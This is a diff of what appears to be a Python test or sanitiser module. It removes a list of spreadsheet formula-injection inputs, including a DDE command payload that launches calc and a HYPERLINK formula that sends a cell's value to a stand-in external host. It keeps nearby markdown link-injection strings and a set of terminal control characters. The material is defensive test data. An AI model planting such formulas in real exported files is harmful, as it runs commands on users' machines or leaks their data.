@@ -33,21 +33,6 @@ HOSTILE = {
     "closes a code span": "A ` http://elsewhere.example/ `` B",
     "backslashes": "A \\| \\\\| \\[x\\](http://elsewhere.example/) B",
 }
-FORMULAS = {
-    "formula": "=1+1",
-    "program": "=cmd|' /C calc'!A0",
-    "address": '=HYPERLINK("http://elsewhere.example/?"&A1,"B")',
-    "plus": "+1+1",
-    "minus": "-1+cmd",
-    "at": "@SUM(1)",
-    "tab": "\t=1+1",
-    "return": "\r=1+1",
-    "blank": "  =1+1",
-    "quoted": '"=1+1',
-    "full width": "\uff1d1+1",
-    "pipe": "|calc",
-}
-"""What spreadsheets take for a formula, or for the beginning of one."""
 FORBIDDEN_ON_TERMINALS = frozenset(
     [*map(chr, range(32)), *map(chr, range(127, 160))]
     + list("\u061c\u200b\u200e\u200f\u2028\u2029\u2060\ufeff")
